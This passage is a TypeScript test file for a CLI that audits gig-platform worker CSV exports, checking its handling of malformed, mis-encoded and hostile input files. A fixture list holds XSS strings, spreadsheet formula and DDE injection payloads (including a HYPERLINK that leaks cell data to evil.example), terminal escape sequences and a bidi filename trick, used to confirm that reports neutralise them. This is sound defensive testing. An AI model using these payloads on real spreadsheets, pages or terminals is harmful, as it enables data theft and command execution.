// Broken and hostile exports, one failure mode at a time (issue 6). Each case goes through
// the real CLI twice (harness.ts checks exit code, stack traces, accounting, CSV/HTML/
// Markdown/terminal safety, untouched inputs and a repeatable report); the case itself
// says what the outcome is: which lines are rejected and why, or the one-line error.
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { idCheckChar } from '../../src/normalise/idNumber.js';
import { ORDERS, csvText, hostileCase, shiftRows } from './harness.js';

const enc = (s: string) => Buffer.from(s, 'utf8');

/** Lines of a file built row by row, remembering the line numbers of the rows marked bad. */
class Lines {
  readonly lines: string[] = [];
  readonly bad: number[] = [];
  constructor(header: string[] = ORDERS) {
    this.lines.push(header.join(','));
  }
  ok(rows: string[][]): this {
    for (const r of rows) this.lines.push(csvText([r]).slice(0, -1));
    return this;
  }
  /** A raw line (or several physical lines) that must be rejected, at the line it starts on. */
  reject(raw: string): this {
    this.bad.push(this.lines.length + 1);
    this.lines.push(raw);
    return this;
  }
  raw(raw: string): this {
    this.lines.push(raw);
    return this;
  }
  text(eol = '\n'): string {
    return this.lines.join(eol) + eol;
  }
}

const good = (worker = 'W1', date = '2025-03-04', n = 10) => shiftRows(worker, date, n);

describe('rows that cannot be read are rejected with their line; the run goes on', () => {
  it('ragged rows: too few fields, too many, a stray trailing delimiter', async () => {
    const f = new Lines()
      .ok(good('W1', '2025-03-04', 3))
      .reject('X1,W1,2025-03-04 20:00:00')
      .ok(good('W1', '2025-03-05', 3))
      .reject('X2,W1,2025-03-04 21:00:00,2025-03-04 21:10:00,速达,永川区,外卖,5,已完成,surplus')
      .reject('X3,W1,2025-03-04 22:00:00,2025-03-04 22:10:00,速达,永川区,外卖,5,已完成,');
    const r = await hostileCase({ 'orders.csv': f.text() }, { code: 0, rejectedLines: { 'orders.csv': f.bad }, rowsRead: { 'orders.csv': 9 } });
    expect(r.report.rejected.map((x: { reason: string }) => x.reason)).toEqual([
      'row has 3 fields, the header has 9',
      'row has 10 fields, the header has 9',
      'row has 10 fields, the header has 9',
    ]);
  });

  it('unparseable date-times, amounts and enumerations, in every kind of file', async () => {
    const orders = new Lines()
      .ok(good('W1'))
      .reject('X1,W1,2025-13-01 08:00:00,2025-03-04 08:10:00,速达,永川区,外卖,5,已完成')
      .reject('X2,W1,2025-03-04 08:00:00,yesterday,速达,永川区,外卖,5,已完成')
      .reject('X3,W1,2025-03-04 08:00:00,2025-03-04 08:10:00,速达,永川区,外卖,1.2.3,已完成')
      .reject('X4,W1,2025-03-04 08:00:00,2025-03-04 08:10:00,速达,永川区,外卖,五元,已完成')
      .reject('X5,W1,2025-03-04 08:00:00,2025-03-04 08:10:00,速达,永川区,外卖,5,配送中')
      .reject('X6,W1,2025-02-30 08:00:00,2025-03-04 08:10:00,速达,永川区,外卖,5,已完成')
      .reject('X7,W1,2025-03-04 25:00:00,2025-03-04 08:10:00,速达,永川区,外卖,5,已完成');
    const contracts = new Lines(['worker_id', 'contract_type', 'start_date', 'end_date', 'platform'])
      .raw('W1,书面协议,2025-01-01,,速达')
      .reject('W1,神秘协议,2025-01-01,,速达')
      .reject('W1,合作协议,2025-02-30,,速达')
      .reject('W1,合作协议,2025-01-01,someday,速达');
    const pay = new Lines(['worker_id', 'period_start', 'period_end', 'gross_pay', 'payslip_provided', 'platform'])
      .raw('W1,2025-03-01,2025-03-31,3000,是,速达')
      .reject('W1,2025-03-01,2025-03-31,N/A,是,速达')
      .reject('W1,2025-03-01,2025-03-31,3000,maybe,速达')
      .reject('W1,2025-04-01,2025/4/31,3000,是,速达');
    const insurance = new Lines(['worker_id', 'insurance_type', 'start_date', 'status', 'platform'])
      .raw('W1,职业伤害保障,2025-01-01,正常,速达')
      .reject('W1,火星保险,2025-01-01,正常,速达')
      .reject('W1,工伤保险,2025-01-01,冻结,速达');
    const first17 = '50011820000229123';
    const id = first17 + idCheckChar(first17);
    const wrong = first17 + (id.endsWith('1') ? '2' : '1');
    const workers = new Lines(['worker_id', 'name', 'id_number', 'birth_date'])
      .raw(`W1,张三,${id},`)
      .reject(`W2,李四,${wrong},`)
      .reject('W3,王五,,1990-02-30');
    const r = await hostileCase(
      {
        'orders.csv': orders.text(),
        'contracts.csv': contracts.text(),
        'pay.csv': pay.text(),
        'insurance.csv': insurance.text(),
        'workers.csv': workers.text(),
      },
      {
        code: 0,
        rejectedLines: { 'orders.csv': orders.bad, 'contracts.csv': contracts.bad, 'pay.csv': pay.bad, 'insurance.csv': insurance.bad, 'workers.csv': workers.bad },
      },
    );
    const reasons = r.report.rejected.map((x: { column?: string; reason: string }) => `${x.column}: ${x.reason}`);
    expect(reasons).toEqual(
      expect.arrayContaining([
        'accepted_at: unparseable date-time "2025-13-01 08:00:00"',
        'completed_at: unparseable date-time "yesterday"',
        'order_pay: unparseable amount "1.2.3"',
        'order_pay: unparseable amount "五元"',
        'status: unknown order status "配送中"',
        'contract_type: unknown contract type "神秘协议"',
        'start_date: unparseable date "2025-02-30"',
        'gross_pay: unparseable amount "N/A"',
        'payslip_provided: unrecognised yes/no value "maybe"',
        'insurance_type: unknown insurance type "火星保险"',
        'id_number: invalid resident ID number (check digit does not match)',
      ]),
    );
  });

  it('an order that ends before it starts, or lasts over 24 hours, is rejected as implausible', async () => {
    const f = new Lines()
      .ok(good())
      .reject('X1,W1,2025-03-04 10:00:00,2025-03-04 09:59:59,速达,永川区,外卖,5,已完成')
      .reject('X2,W1,2025-03-04 10:00:00,2025-03-05 10:00:01,速达,永川区,外卖,5,已完成')
      .raw('X3,W1,2025-03-06 10:00:00,2025-03-07 10:00:00,速达,永川区,外卖,5,已完成'); // exactly 24 h: allowed
    const r = await hostileCase({ 'orders.csv': f.text() }, { code: 0, rejectedLines: { 'orders.csv': f.bad } });
    expect(r.report.rejected.map((x: { reason: string }) => x.reason)).toEqual([
      'order ends before it starts',
      'order lasts longer than 24 hours (implausible)',
    ]);
  });

  it('duplicate order ids are rejected and counted once, within a file and across files', async () => {
    const row = (id: string, hour: number, platform = '速达') => `${id},W9,2025-03-05 ${String(hour).padStart(2, '0')}:00:00,2025-03-05 ${String(hour).padStart(2, '0')}:30:00,${platform},永川区,外卖,5,已完成`;
    const a = new Lines().raw(row('D1', 8)).raw(row('D2', 9)).raw(row('D3', 10)).reject(row('D1', 11));
    const b = new Lines().reject(row('D2', 12)).raw(row('D2', 13, '别的平台')); // same id on another platform: fine
    const r = await hostileCase({ 'a.csv': a.text(), 'b.csv': b.text() }, { code: 0, rejectedLines: { 'a.csv': [5], 'b.csv': [2] } });
    expect(r.report.rejected.map((x: { reason: string }) => x.reason)).toEqual([
      `duplicate order id D1 (first at ${r.paths['a.csv']} line 2)`,
      `duplicate order id D2 (first at ${r.paths['a.csv']} line 3)`,
    ]);
    expect(r.report.run.inputs.map((i: { rowsUsed: number }) => i.rowsUsed)).toEqual([3, 1]);
  });
});

describe('quotes', () => {
  it('a quote that never closes: the rows before it are used, the rest of the file is one rejected row at the line where it opened, never swallowed silently', async () => {
    const f = new Lines().ok(good('W1', '2025-03-04', 4)).reject('X1,W1,2025-03-04 20:00:00,2025-03-04 20:10:00,"速达,永川区,外卖,5,已完成').ok(good('W2', '2025-03-05', 20));
    const r = await hostileCase({ 'orders.csv': f.text() }, { code: 0, rejectedLines: { 'orders.csv': [6] }, rowsRead: { 'orders.csv': 5 } });
    expect(r.report.rejected).toEqual([
      { file: r.paths['orders.csv'], line: 6, column: 'platform', reason: 'a quoted field is never closed (from line 6 to the end of the file)' },
    ]);
    expect(r.report.run.inputs[0].rowsUsed).toBe(4);
  });

  it('a header whose quote never closes still stops the run (the file is no export)', async () => {
    const f = new Lines(['order_id', '"worker_id', 'accepted_at', 'completed_at']).ok(good('W1', '2025-03-04', 4));
    await hostileCase({ 'orders.csv': f.text() }, { code: 2, error: /orders\.csv: line 1: a quoted field is never closed/ }, { args: (p) => [p['orders.csv']] });
  });

  it('a quote closed rows later by another stray quote: the swallowed rows are rejected as one, at the line the quote opened', async () => {
    const f = new Lines()
      .ok(good('W1', '2025-03-04', 4))
      .reject('X1,W1,2025-03-04 20:00:00,2025-03-04 20:10:00,"速达,永川区,外卖,5,已完成')
      .raw('X2,W1,2025-03-04 20:10:00,2025-03-04 20:20:00,速达,永川区,外卖,5,已完成')
      .raw('X3,W1,2025-03-04 20:20:00,2025-03-04 20:30:00,速达,永川区,外卖,5,已完成')
      .raw('X4,W1,2025-03-04 20:30:00,2025-03-04 20:40:00,"x",永川区,外卖,5,已完成')
      .ok(good('W2', '2025-03-05', 4));
    const r = await hostileCase({ 'orders.csv': f.text() }, { code: 0, rejectedLines: { 'orders.csv': f.bad }, rowsRead: { 'orders.csv': 9 } });
    expect(r.report.rejected[0]).toMatchObject({ line: 6 });
    expect(r.report.rejected[0].reason).toMatch(/^the row spans 4 lines from its own: a quote opened on it/);
    expect(r.report.run.inputs[0].rowsUsed).toBe(8);
  });

  it('a quote used as a ditto mark swallows one line break: rejected at its line, not silently merged', async () => {
    const f = new Lines()
      .ok(good('W1', '2025-03-04', 2))
      .reject('X1,W1,2025-03-04 20:00:00,2025-03-04 20:10:00,",永川区,外卖,5,已完成')
      .raw('X2,W1,2025-03-04 20:10:00,2025-03-04 20:20:00,",永川区,外卖,5,已完成')
      .ok(good('W2', '2025-03-05', 2));
    await hostileCase({ 'orders.csv': f.text() }, { code: 0, rejectedLines: { 'orders.csv': f.bad } });
  });

  it('quotes inside unquoted fields, doubled quotes and multi-line values are kept as written', async () => {
    const f = new Lines()
      .ok(good('W1', '2025-03-04', 2))
      .raw('X1,W1,2025-03-04 20:00:00,2025-03-04 20:10:00,速"达,永川区,外卖,5,已完成')
      .raw('X2,"W ""1""",2025-03-04 20:00:00,2025-03-04 20:10:00,"速达\n永川站",永川区,外卖,5,已完成');
    const r = await hostileCase({ 'orders.csv': f.text() }, { code: 0, rejectedLines: { 'orders.csv': [] }, rowsRead: { 'orders.csv': 4 } });
    expect(r.report.run.inputs[0].rowsUsed).toBe(4);
  });
});

describe('line endings, BOM, blank lines', () => {
  for (const [name, eol] of [
    ['CRLF', '\r\n'],
    ['lone CR', '\r'],
    ['LF', '\n'],
  ] as const) {
    it(`${name} line endings: rows and rejected lines count physical lines`, async () => {
      const f = new Lines()
        .ok(good('W1', '2025-03-04', 3))
        .reject('X1,W1,not a date,2025-03-04 20:10:00,速达,永川区,外卖,5,已完成')
        .raw('')
        .ok(good('W1', '2025-03-05', 3))
        .reject('X2,W1');
      const r = await hostileCase({ 'orders.csv': f.text(eol) }, { code: 0, rejectedLines: { 'orders.csv': f.bad }, rowsRead: { 'orders.csv': 8 } });
      expect(r.report.rejected[0].column).toBe('accepted_at');
    });
  }

  it('a UTF-8 byte-order mark does not stick to the first column name', async () => {
    const f = new Lines().ok(good()).reject('X1,W1,bad,2025-03-04 20:10:00,速达,永川区,外卖,5,已完成');
    const r = await hostileCase({ 'orders.csv': '\uFEFF' + f.text() }, { code: 0, rejectedLines: { 'orders.csv': f.bad } });
    expect(r.report.run.inputs[0].columns).toContain('order_id');
    expect(r.report.summary.workers).toBe(1);
  });

  it('blank lines and rows of empty fields before, between and after the rows are not rows', async () => {
    const text = ['', '', ORDERS.join(','), '', ',,,,,,,,', ...good().map((x) => x.join(',')), '   ', 'X1,W1,bad,2025-03-04 20:10:00,速达,永川区,外卖,5,已完成', '', '', ''].join('\n');
    await hostileCase({ 'orders.csv': text }, { code: 0, rejectedLines: { 'orders.csv': [17] }, rowsRead: { 'orders.csv': 11 } });
  });

  it('UTF-16 with and without a byte-order mark is read as UTF-16', async () => {
    const a = new Lines().ok(good('骑手甲')).reject('X1,骑手甲,bad,2025-03-04 20:10:00,速达,永川区,外卖,5,已完成');
    const b = new Lines().ok(good('骑手乙')).reject('X2,骑手乙,2025-03-04 20:10:00,bad,速达,永川区,外卖,5,已完成');
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(a.text(), 'utf16le')]);
    const bare = Buffer.from(b.text('\r\n'), 'utf16le');
    const r = await hostileCase({ 'bom.csv': bom, 'bare.csv': bare }, { code: 0, rejectedLines: { 'bom.csv': a.bad, 'bare.csv': b.bad } });
    for (const i of r.report.run.inputs) expect(i.encoding).toBe('utf-16le');
    expect(r.report.findings.map((x: { workerId: string }) => x.workerId)).toEqual(expect.arrayContaining(['骑手甲', '骑手乙']));
  });
});

describe('damaged bytes', () => {
  it('NUL bytes: inside a value, a line of them, zero padding at the end', async () => {
    const f = new Lines()
      .ok(good('W1', '2025-03-04', 3))
      .reject('X1,W\u00001,2025-03-04 20:00:00,2025-03-04 20:10:00,速达,永川区,外卖,5,已完成')
      .ok(good('W1', '2025-03-05', 3))
      .reject('\u0000\u0000\u0000\u0000')
      .ok(good('W1', '2025-03-06', 3));
    const text = f.text() + '\u0000'.repeat(512);
    const r = await hostileCase({ 'orders.csv': text }, { code: 0, rejectedLines: { 'orders.csv': [...f.bad, f.lines.length + 1] } });
    expect(r.report.rejected[0]).toMatchObject({ column: 'worker_id', reason: expect.stringMatching(/NUL/) });
  });

  it('invalid bytes in a GB18030 file reject exactly the rows that hold them', async () => {
    const header = ['订单号', '骑手ID', '接单时间', '完成时间', '平台', '区县', '业务类型', '订单收入', '订单状态'];
    const rows = [...good('骑手甲', '2025-03-04', 4), ...good('骑手乙', '2025-03-05', 4)].map((x) => iconv.encode(csvText([x]), 'gb18030'));
    const parts = [iconv.encode(csvText([header]), 'gb18030'), ...rows];
    // Line 4: a byte 0xFF (never valid in GB18030) at the start of the worker id.
    const at = parts[3].indexOf(0x2c) + 1;
    parts[3] = Buffer.concat([parts[3].subarray(0, at), Buffer.from([0xff]), parts[3].subarray(at)]);
    // Line 7: a lead byte followed by a comma (an invalid pair).
    parts[6] = Buffer.from(parts[6].toString('latin1').replace(',', '\u0081,'), 'latin1');
    const r = await hostileCase({ '订单.csv': Buffer.concat(parts) }, { code: 0, rejectedLines: { '订单.csv': [4, 7] } });
    expect(r.report.run.inputs[0].encoding).toBe('gb18030');
    expect(r.report.rejected[0].reason).toMatch(/not valid text/);
    expect(r.report.run.inputs[0].rowsUsed).toBe(6);
  });

  it('invalid bytes in a UTF-8 file reject exactly the rows that hold them; the rest stays UTF-8', async () => {
    const lines = [ORDERS, ...good('骑手甲', '2025-03-04', 8)].map((x) => enc(csvText([x])));
    lines[2] = Buffer.concat([lines[2].subarray(0, 8), Buffer.from([0xff, 0xfe]), lines[2].subarray(8)]); // line 3
    const cut = lines[5].indexOf(Buffer.from('速达'));
    lines[5] = Buffer.concat([lines[5].subarray(0, cut + 1), lines[5].subarray(cut + 3)]); // line 6: 速 cut to its first byte
    const r = await hostileCase({ 'orders.csv': Buffer.concat(lines) }, { code: 0, rejectedLines: { 'orders.csv': [3, 6] } });
    expect(r.report.run.inputs[0].encoding).toBe('utf-8');
    // The good rows keep their Chinese text (the file was not taken for GBK).
    expect(r.report.findings.some((x: { workerId: string }) => x.workerId === '骑手甲')).toBe(true);
  });

  it('a UTF-8 file cut inside its last character rejects the last row only', async () => {
    const body = enc(csvText([ORDERS, ...good('骑手甲', '2025-03-04', 10)]).replace(/\n$/, ''));
    // The last field, 已完成, loses the last two bytes of 成.
    await hostileCase({ 'orders.csv': body.subarray(0, body.length - 2) }, { code: 0, rejectedLines: { 'orders.csv': [11] } });
  });
});

describe('sizes', () => {
  it('a multi-megabyte value: rejected where the file uses it, ignored where it does not', async () => {
    const header = [...ORDERS, '备注'];
    const huge = 'x'.repeat(3 * 1024 * 1024);
    const f = new Lines(header)
      .ok(good('W1', '2025-03-04', 3).map((x) => [...x, '']))
      .reject(`X1,W1,2025-03-04 20:00:00,2025-03-04 20:10:00,${huge},永川区,外卖,5,已完成,`)
      .raw(`X2,W1,2025-03-04 20:10:00,2025-03-04 20:20:00,速达,永川区,外卖,5,已完成,"${huge}"`)
      .ok(good('W1', '2025-03-05', 3).map((x) => [...x, '']));
    const r = await hostileCase({ 'orders.csv': f.text() }, { code: 0, rejectedLines: { 'orders.csv': f.bad } });
    expect(r.report.rejected[0]).toMatchObject({ column: 'platform', reason: expect.stringMatching(/3145728 characters long/) });
    // Nothing of the huge value reaches a report.
    expect(r.csv!.length).toBeLessThan(1024 * 1024);
    expect(r.html!.length).toBeLessThan(2 * 1024 * 1024);
  });

  it('an empty file given by name is an input error', async () => {
    await hostileCase({ 'orders.csv': '' }, { code: 2, error: /orders\.csv: the file is empty/ }, { args: (p) => [p['orders.csv']] });
  });

  it('an empty file in a folder is skipped with a note; the other files are read', async () => {
    const r = await hostileCase({ 'empty.csv': '', 'orders.csv': csvText([ORDERS, ...good()]) }, { code: 0, rejectedLines: { 'orders.csv': [] } });
    expect(r.stderr).toMatch(/note: skipped .*empty\.csv: the file is empty/);
    expect(r.report.run.skipped).toEqual([{ path: r.paths['empty.csv'], reason: 'the file is empty' }]);
  });

  it('a header-only file is read with no rows', async () => {
    const r = await hostileCase({ 'orders.csv': ORDERS.join(',') + '\n' }, { code: 0, rowsRead: { 'orders.csv': 0 } });
    expect(r.report.findings).toEqual([]);
  });
});

describe('files that are not CSV exports', () => {
  const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]), Buffer.from('[Content_Types].xml'), Buffer.alloc(300, 1)]);
  const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(500, 0)]);

  it.each([
    ['an .xlsx renamed .csv', zip],
    ['an old .xls renamed .csv', ole],
  ])('%s: says it is a workbook and how to save it as CSV', async (_name, bytes) => {
    const r = await hostileCase({ '订单 导出.csv': bytes }, { code: 2, error: /订单 导出\.csv: this is an Excel workbook, not a CSV file; .*save it as CSV/ }, { args: (p) => [p['订单 导出.csv']] });
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });

  it('a folder with unrelated files: a README, a .txt of prose, images, a binary .txt: only the export is read', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(2000, 7)]);
    const r = await hostileCase(
      {
        'README.md': '# 说明\n\nThese are the exports, see "notes.txt".\n',
        'notes.txt': 'Notes on the audit.\nThe platform said, "we pay weekly", and then "later.\nMore prose, with commas, and so on.\n',
        '照片.png': png,
        'scan.txt': png,
        'desktop.ini': '[.ShellClassInfo]\n',
        '订单 2025年3月.csv': csvText([ORDERS, ...good()]),
      },
      { code: 0, rejectedLines: { '订单 2025年3月.csv': [] } },
    );
    expect(r.report.run.inputs.map((i: { path: string }) => i.path)).toEqual([r.paths['订单 2025年3月.csv']]);
    const skipped = r.report.run.skipped.map((s: { path: string }) => s.path);
    expect(skipped).toEqual(expect.arrayContaining([r.paths['notes.txt'], r.paths['scan.txt']]));
    expect(skipped).not.toContain(r.paths['照片.png']);
    expect(r.stderr).toMatch(/note: skipped .*notes\.txt/);
  });

  it('a folder with nothing but unrelated files is an input error saying why each was skipped', async () => {
    await hostileCase(
      { 'README.txt': 'Read me first.\n', 'notes.txt': 'no, export, here\nat, all, sorry\n' },
      { code: 2, error: /no export to audit among the inputs \(skipped .*README\.txt: not a recognised export/ },
    );
  });
});

describe('paths and options', () => {
  it('files given by name with spaces and Chinese characters, and --strict on a rejected row', async () => {
    const f = new Lines().ok(good('骑手 甲')).reject('X1,骑手 甲,bad,2025-03-04 20:10:00,速达,永川区,外卖,5,已完成');
    const files = { '订单 记录 (1).csv': f.text(), '合同 记录.csv': 'worker_id,contract_type,start_date\n骑手 甲,书面协议,2025-01-01\n' };
    const r = await hostileCase(files, { code: 0, rejectedLines: { '订单 记录 (1).csv': f.bad } }, { args: (p) => ['--orders', p['订单 记录 (1).csv'], '--contracts', p['合同 记录.csv']] });
    expect(r.report.run.inputs.map((i: { kind: string }) => i.kind)).toEqual(['orders', 'contracts']);
    await hostileCase(files, { code: 2, error: /--strict: 1 row\(s\) rejected; first: .*订单 记录 \(1\)\.csv line 12 column accepted_at/ }, { extra: ['--strict'] });
  });

  it('mixed line endings (an edited CRLF file with LF rows): every row read and used', async () => {
    const rows = good('W1', '2025-03-04', 6).map((x) => x.join(','));
    const text = [ORDERS.join(','), rows[0], rows[1]].join('\r\n') + '\r\n' + rows[2] + '\n' + rows.slice(3).join('\r\n') + '\r\n';
    const r = await hostileCase({ 'orders.csv': text }, { code: 0, rejectedLines: { 'orders.csv': [] }, rowsRead: { 'orders.csv': 6 } });
    expect(r.report.run.inputs[0].rowsUsed).toBe(6);
  });
});

describe('hostile values never act through a report or the terminal', () => {
  const HOSTILE = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '"><svg onload=alert(1)>',
    '<iframe src=javascript:alert(1)>',
    '=HYPERLINK("http://evil.example/?q="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    'esc\u001b]0;pwned\u0007title',
    'clear\u001b[2J\u001b[Hscreen',
    'c1\u009b31mred',
    'bidi\u202egpj.exe',
    '| md | table |\n# heading',
  ];

  it('worker ids, platforms, regions and bad values with markup, formulas and escape sequences', async () => {
    const rows: string[][] = [];
    HOSTILE.forEach((w, k) => rows.push(...shiftRows(w, `2025-03-${String(k + 1).padStart(2, '0')}`, 10, { platform: HOSTILE[(k + 4) % HOSTILE.length], region: HOSTILE[(k + 1) % HOSTILE.length] })));
    const bad = [
      ['B1', 'W1', '<script>alert(1)</script>', '2025-03-04 20:10:00', '速达', '永川区', '外卖', '5', '已完成'],
      ['B2', 'W1', 'x\u001b[2Jy', '2025-03-04 20:10:00', '速达', '永川区', '外卖', '5', '已完成'],
      ['B3', 'W1', '2025-03-04 20:00:00', '2025-03-04 20:10:00', '速达', '永川区', '外卖', '=1+1\u202e', '已完成'],
    ];
    const text = csvText([ORDERS, ...rows, ...bad]);
    // The value with a line break makes its rows two lines long.
    const first = csvText([ORDERS, ...rows]).split('\n').length;
    const r = await hostileCase(
      { '<img src=x onerror=alert(1)>.csv': text, 'junk\u001b[2J.txt': 'nothing\u001b]0;x\u0007 here\n' },
      { code: 0, rejectedLines: { '<img src=x onerror=alert(1)>.csv': [first, first + 1, first + 2] } },
    );
    // Every hostile worker is in the findings, as given (trimmed like any value).
    const workers = new Set(r.report.findings.map((f: { workerId: string }) => f.workerId));
    for (const w of HOSTILE) expect(workers.has(w.trim())).toBe(true);
    // The values are there, as text: escaped in HTML, quoted-and-neutralised in CSV.
    expect(r.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(r.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(r.csv).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""open"")"`);
    expect(r.csv).toContain(`'+cmd|' /C calc'!A0`);
    expect(r.csv).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    // The reasons of rejected rows quote values with escapes, not raw control characters.
    expect(r.report.rejected.map((x: { reason: string }) => x.reason)).toEqual([
      'unparseable date-time "<script>alert(1)</script>"',
      'unparseable date-time "x\\u001b[2Jy"',
      'unparseable amount "=1+1\\u202e"',
    ]);
    // The terminal got the findings (table) with the escape sequences removed.
    expect(r.stdout).toContain('clear[2J');
    expect(r.stderr).toMatch(/note: skipped .*junk\[2J\.txt/);
    // Markdown: table syntax and headings from a value are inert.
    expect(r.md).not.toMatch(/^# heading/m);
  });

  it('the check command and error messages quote hostile paths safely', async () => {
    const { main } = await import('../../src/cli/program.js');
    const { hostileDir, writeFiles } = await import('./harness.js');
    const dir = hostileDir();
    const p = writeFiles(dir, { 'x\u001b[2J\u009b1m.csv': 'order_id,note\n' }); // one known column: in a folder, skipped
    let err = '';
    let out = '';
    const io = { stdout: (s: string) => void (out += s), stderr: (s: string) => void (err += s), env: {}, cwd: dir };
    expect(await main(['audit', p['x\u001b[2J\u009b1m.csv'], '--fail-on', 'never'], io)).toBe(2);
    expect(err).toMatch(/^gigaudit: .*x\[2J1m\.csv: not a recognised export/);
    // eslint-disable-next-line no-control-regex
    expect(err).not.toMatch(/[\u001b\u009b]/);
    expect(err.trim().split('\n')).toHaveLength(1);
    err = '';
    expect(await main(['check', dir, '--json'], io)).toBe(0);
    expect(out).not.toMatch(/[\u001b\u009b]/);
    expect(JSON.parse(out).skipped[0].path).toBe(p['x\u001b[2J\u009b1m.csv']);
  });
});

// Mixed line endings: every CRLF, LF and lone CR ends a record (outside quotes), whatever the
// file's first line ends with, and lines are counted as a text editor counts them. Both
// engines: csv-parse (csvStream.ts) and the fast scanner (fast/scan.ts), which
// tests/read/differential.test.ts holds to the same answers.
describe('mixed line endings', () => {
  const rows = (n: number) => good('W1', '2025-03-04', n).map((x) => x.join(','));
  const bad = 'X1,W1,bad,2025-03-04 20:10:00,速达,永川区,外卖,5,已完成';

  it('a CRLF row in an LF file: rows after it are rejected at their own line', async () => {
    // csv-parse, with LF as the only record delimiter, took the CR for field content and counted it as a line.
    const r = rows(4);
    const text = [ORDERS.join(','), r[0], `${r[1]}\r`, r[2], bad, r[3]].join('\n') + '\n';
    const res = await hostileCase({ 'orders.csv': text }, { code: 0, rejectedLines: { 'orders.csv': [5] }, rowsRead: { 'orders.csv': 5 } });
    expect(res.report.run.inputs[0].rowsUsed).toBe(4);
  });

  it('an LF row in a CRLF file is a row of its own', async () => {
    // The record delimiter used to be fixed by the first line ending; the LF row merged with the next.
    const r = rows(4);
    const text = [ORDERS.join(','), r[0], r[1]].join('\r\n') + '\r\n' + r[2] + '\n' + [bad, r[3]].join('\r\n') + '\r\n';
    const res = await hostileCase({ 'orders.csv': text }, { code: 0, rejectedLines: { 'orders.csv': [5] }, rowsRead: { 'orders.csv': 5 } });
    expect(res.report.run.inputs[0].rowsUsed).toBe(4);
  });

  it('LF rows in a lone-CR (old Mac) file, and a lone CR in a CRLF file, each end a row', async () => {
    const m = rows(5);
    const mac = ORDERS.join(',') + '\r' + m[0] + '\r' + m[1] + '\n' + m[2] + '\r' + bad + '\n' + m[3] + '\r' + m[4] + '\r';
    const c = rows(5);
    const crlf = [ORDERS.join(','), c[0], `${c[1]}\r${c[2]}`, c[3], bad.replace('X1', 'X2'), c[4]].join('\r\n') + '\r\n';
    const res = await hostileCase(
      { 'mac.csv': mac, 'crlf.csv': crlf },
      { code: 0, rejectedLines: { 'mac.csv': [5], 'crlf.csv': [6] }, rowsRead: { 'mac.csv': 6, 'crlf.csv': 6 } },
    );
    for (const i of res.report.run.inputs) expect(i.rowsUsed).toBe(5);
  });

  it('every kind of line ending, blank lines of each kind, and line breaks inside quoted values: lines as an editor shows them', async () => {
    const r = rows(6);
    const q = (row: string, br: string) => row.replace(',速达,', `,"速${br}达",`);
    const text = [
      [ORDERS.join(','), '\n'], // 1
      [r[0], '\r\n'], // 2
      ['', '\r\n'], // 3 (blank)
      [r[1], '\r'], // 4
      ['', '\r'], // 5 (blank)
      [q(r[2], '\r\n'), '\n'], // 6-7
      ['', '\n'], // 8 (blank)
      [q(r[3], '\r'), '\r\n'], // 9-10
      [bad, '\r'], // 11
      [q(r[4], '\n'), '\r\n'], // 12-13
      [bad.replace('X1', 'X2'), '\n'], // 14
      [r[5], ''], // 15 (no line ending at the end)
    ]
      .map(([l, eol]) => l + eol)
      .join('');
    expect(text.match(/"速(\r\n|\r|\n)达"/g)).toHaveLength(3);
    const res = await hostileCase({ 'orders.csv': text }, { code: 0, rejectedLines: { 'orders.csv': [11, 14] }, rowsRead: { 'orders.csv': 8 } });
    expect(res.report.run.inputs[0].rowsUsed).toBe(6);
  });
});

describe('the real process', () => {
  it('a folder of hostile and broken files: exit 0, notes only on stderr, no stack trace, inputs untouched', async () => {
    const { spawnSync } = await import('node:child_process');
    const { readFileSync, readdirSync } = await import('node:fs');
    const { join, resolve } = await import('node:path');
    const { hostileDir, writeFiles, sha256 } = await import('./harness.js');
    const dir = hostileDir();
    const swallow = new Lines().ok(good('W2', '2025-03-06', 3)).raw('S1,W2,2025-03-06 20:00:00,2025-03-06 20:10:00,",永川区,外卖,5,已完成').raw('S2,W2,2025-03-06 20:10:00,2025-03-06 20:20:00,",永川区,外卖,5,已完成');
    const paths = writeFiles(dir, {
      'a <script>alert(1)</script>.csv': csvText([ORDERS, ...shiftRows('<img src=x onerror=alert(1)>', '2025-03-04', 10), ...shiftRows('=cmd|x', '2025-03-05', 10)]),
      'b 吞行.csv': swallow.text('\r\n'),
      'c nul.csv': Buffer.from(`${ORDERS.join(',')}\nN1,W\u00003,2025-03-07 08:00:00,2025-03-07 09:00:00,速达,永川区,外卖,5,已完成\n`),
      'd.xlsx': Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0]),
      'e notes.txt': 'just some "notes\n',
    });
    const before = Object.values(paths).map(sha256);
    const out = join(dir, '..', 'out');
    const r = spawnSync(process.execPath, [resolve(__dirname, '../../bin/gigaudit.js'), 'audit', dir, '--fail-on', 'never', '--format', `json:${join(out, 'r.json')}`, '--format', `html:${join(out, 'r.html')}`, '--format', `csv:${join(out, 'r.csv')}`], {
      encoding: 'utf8',
      env: { ...process.env, LANG: 'zh_CN.UTF-8' },
    });
    expect(r.status, r.stderr).toBe(0);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    // Notes for the skipped files; a warning for the file whose only row was rejected.
    for (const l of r.stderr.trim().split('\n')) expect(l).toMatch(/^gigaudit: (note: skipped |warning: .*c nul\.csv: all 1 rows rejected)/);
    expect(Object.values(paths).map(sha256)).toEqual(before);
    expect(readdirSync(out).sort()).toEqual(['r.csv', 'r.html', 'r.json']);
    const rep = JSON.parse(readFileSync(join(out, 'r.json'), 'utf8'));
    expect(rep.rejected.map((x: { file: string; line: number }) => [x.file.slice(dir.length + 1), x.line])).toEqual([
